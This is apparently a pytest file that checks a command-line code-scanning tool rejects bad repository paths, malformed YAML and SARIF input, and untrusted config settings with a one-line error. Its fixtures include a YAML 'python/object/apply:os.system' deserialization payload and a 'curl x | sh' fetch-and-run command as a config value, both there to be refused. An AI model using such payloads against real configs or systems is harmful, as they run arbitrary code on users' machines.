"""Bad input on every command: one line and a hint, exit 2, no traceback, nothing lost."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from hostile import init_repo, is_root, one_line_error

from aise.cli import main

# Each command that takes a repository path; `{p}` is replaced by the path under test.
PATH_COMMANDS = {
    "scan": ["scan", "{p}", "-s", "bandit"],
    "run": ["run", "{p}", "-q", "--no-fix"],  # every case here fails before any scan
    "memory index": ["memory", "index", "{p}"],
    "config show": ["config", "show", "{p}"],
}


def _run(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    capsys.readouterr()
    code = main(args)
    return code, capsys.readouterr().err


def _args(command: str, path: Path, *extra: str) -> list[str]:
    return [a.replace("{p}", str(path)) for a in PATH_COMMANDS[command]] + list(extra)


def _bare(tmp_path: Path) -> Path:
    source = init_repo(tmp_path / "src", {"a.py": "x = 1\n"})
    subprocess.run(["git", "clone", "-q", "--bare", str(source), str(tmp_path / "bare.git")], check=True)
    return tmp_path / "bare.git"


PATHS: dict[str, tuple[Callable[[Path], Path], str]] = {
    "missing": (lambda t: t / "missing", "missing: no such file or directory"),
    "file": (lambda t: (t / "f.txt", (t / "f.txt").write_text("x"))[0], "f.txt: not a directory"),
    "bare repo": (_bare, "bare.git: a bare git repository"),
    ".git folder": (lambda t: init_repo(t / "r", {"a.py": ""}) / ".git", ".git: a bare git repository"),
}


@pytest.mark.parametrize("command", sorted(PATH_COMMANDS))
@pytest.mark.parametrize("case", sorted(PATHS))
def test_bad_repository_path(command: str, case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    make, expected = PATHS[case]
    code, err = _run(_args(command, make(tmp_path)), capsys)
    assert code == 2
    assert expected in one_line_error(err)


REPO_CONFIGS = {
    "malformed": ("scan:\n  timeout: [1\n", ".aise.yaml line 3: not valid YAML"),
    "tab indent": ("scan:\n\ttimeout: 3\n", ".aise.yaml line 2: not valid YAML"),
    "unknown key": ("scan:\n  bogus: 1\n", ".aise.yaml: scan.bogus: Extra inputs are not permitted"),
    "wrong type": ("scan: 5\n", ".aise.yaml: scan: Input should be a valid dictionary"),
    "top-level list": ("- a\n- b\n", ".aise.yaml: expected a mapping at the top level, got list"),
    "nested too deeply": ("a: " + "[" * 20000 + "\n", ".aise.yaml: not valid YAML (nested too deeply)"),
    "python tag": ("scan: !!python/object/apply:os.system ['echo pwned']\n", "not valid YAML"),
    "binary": (b"\xff\xfe\x00\x81garbage", ".aise.yaml: cannot read (UnicodeDecodeError"),
    "trust setting": ("fix:\n  test_command: sh -c 'curl x | sh'\n",
                      ".aise.yaml: fix.test_command cannot be set by the repository itself"),
    "huge": ("# padding\n" * 200_000, ".aise.yaml: larger than 1 MB; not a config file"),
    "path out of the repository": ("state_dir: /tmp/elsewhere\n",
                                   ".aise.yaml: state_dir: '/tmp/elsewhere' points outside the repository"),
}


@pytest.mark.parametrize("command", sorted(PATH_COMMANDS))
@pytest.mark.parametrize("case", sorted(REPO_CONFIGS))
def test_bad_repository_config(
    command: str, case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text, expected = REPO_CONFIGS[case]
    repo = init_repo(tmp_path / "repo", {"app.py": "x = 1\n", ".aise.yaml": text})
    before = (repo / ".aise.yaml").read_bytes()
    code, err = _run(_args(command, repo), capsys)
    assert code == 2
    line = one_line_error(err)
    assert expected in line and str(repo / ".aise.yaml") in line  # names the file
    assert not (repo / ".aise").exists()  # failed before any work: nothing written
    assert (repo / ".aise.yaml").read_bytes() == before


USER_CONFIGS = {
    "missing": (None, "nope.yaml: config file not found"),
    "a directory": ("DIR", ": is not a file"),
    "malformed": ("llm: {mode: auto\n", "line 2: not valid YAML"),
    "unknown key": ("llm:\n  mood: happy\n", "user.yaml: llm.mood: Extra inputs are not permitted"),
    "bad value": ("llm:\n  mode: psychic\n", "user.yaml: llm.mode: Input should be 'heuristic', 'llm' or 'auto'"),
}


@pytest.mark.parametrize("command", sorted(PATH_COMMANDS))
@pytest.mark.parametrize("case", sorted(USER_CONFIGS))
def test_bad_config_option(command: str, case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    repo = init_repo(tmp_path / "repo", {"app.py": "x = 1\n"})
    text, expected = USER_CONFIGS[case]
    config = tmp_path / ("nope.yaml" if text is None else "user.yaml")
    if text == "DIR":
        config.mkdir()
    elif text is not None:
        config.write_text(text)
    code, err = _run(_args(command, repo, "--config", str(config)), capsys)
    assert code == 2
    assert expected in one_line_error(err)


@pytest.mark.parametrize("command", sorted(PATH_COMMANDS))
def test_bad_override(command: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    repo = init_repo(tmp_path / "repo", {"app.py": "x = 1\n"})
    code, err = _run(_args(command, repo, "-c", "scan.timeout=-1"), capsys)
    assert code == 2
    assert "-c scan.timeout: scan.timeout: Input should be greater than 0" in one_line_error(err)


@pytest.mark.skipif(is_root(), reason="tests run as root here, and root reads a chmod 000 file")
@pytest.mark.parametrize("command", sorted(PATH_COMMANDS))
def test_unreadable_config(command: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    repo = init_repo(tmp_path / "repo", {"app.py": "x = 1\n", ".aise.yaml": "scan: {}\n"})
    (repo / ".aise.yaml").chmod(0)
    code, err = _run(_args(command, repo), capsys)
    assert code == 2
    assert "cannot read (PermissionError" in one_line_error(err)


SARIF_FILES: dict[str, tuple[str | bytes, str]] = {
    "not json": ("{oops", "not valid JSON (line 1 column 2"),
    "a list": ("[]", "not a SARIF log (top level is list"),
    "wrong version": ('{"version": "1.0.0", "runs": []}', "not SARIF 2.1.0 (version is '1.0.0')"),
    "runs not a list": ('{"version": "2.1.0", "runs": {}}', "`runs` must be a list"),
    "no driver name": ('{"version": "2.1.0", "runs": [{"tool": {}}]}', "runs[0].tool.driver.name: missing"),
    "nested too deeply": ("[" * 100_000, "not valid JSON (nested too deeply)"),
    "binary": (b"\x00\xff\xfe\x81" * 64, "cannot read SARIF file"),
    "negative line": (
        json.dumps({"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "x"}}, "results": [{
            "ruleId": "r", "message": {"text": "m"}, "locations": [{"physicalLocation": {
                "artifactLocation": {"uri": "app.py"}, "region": {"startLine": -5}}}]}]}]}),
        "startLine/endLine must be positive integers",
    ),
}


@pytest.mark.parametrize("case", sorted(SARIF_FILES))
def test_malformed_sarif(case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    repo = init_repo(tmp_path / "repo", {"app.py": "x = 1\n"})
    content, expected = SARIF_FILES[case]
    sarif = tmp_path / "in.sarif"
    sarif.write_bytes(content if isinstance(content, bytes) else content.encode())
    code, err = _run(["scan", str(repo), "-s", "sarif", "--sarif", str(sarif)], capsys)
    assert code == 2
    line = one_line_error(err)
    assert expected in line and "in.sarif" in line


SWEEPS = {
    "missing": (None, "sweep.yaml: sweep config not found"),
    "a directory": ("DIR", "sweep.yaml: is not a file"),
    "malformed": ("repos: [\n", "not valid YAML"),
    "unknown key": ("repos: [{name: a, path: .}]\nconcurency: 2\n", "concurency: Extra inputs are not permitted"),
    "no repos": ("repos: []\n", "repos: List should have at least 1 item"),
    "typo in a repo's settings": (
        "repos: [{name: a, path: ., config: {scan: {timout: 1}}}]\n",
        "repos[a] settings: scan.timout: Extra inputs are not permitted",
    ),
    "nested too deeply": ("repos: " + "[" * 20000 + "\n", "not valid YAML (nested too deeply)"),
}


@pytest.mark.parametrize("case", sorted(SWEEPS))
def test_bad_sweep_config(case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text, expected = SWEEPS[case]
    config = tmp_path / "sweep.yaml"
    if text == "DIR":
        config.mkdir()
    elif text is not None:
        config.write_text(text)
    code, err = _run(["sweep", str(config)], capsys)
    assert code == 2
    assert expected in one_line_error(err)
    assert not (tmp_path / ".aise-sweep").exists()  # validated before any work


def test_errors_from_a_real_process_have_no_traceback(tmp_path: Path) -> None:
    """The console script, not just `main()`: stderr is exactly the message and its hint."""
    env = {**os.environ, "COLUMNS": "200"}
    done = subprocess.run([sys.executable, "-m", "aise", "scan", str(tmp_path / "nope")],
                          capture_output=True, text=True, env=env, timeout=120)
    assert done.returncode == 2 and done.stdout == ""
    assert one_line_error(done.stderr) == f"aise: error: {tmp_path / 'nope'}: no such file or directory"
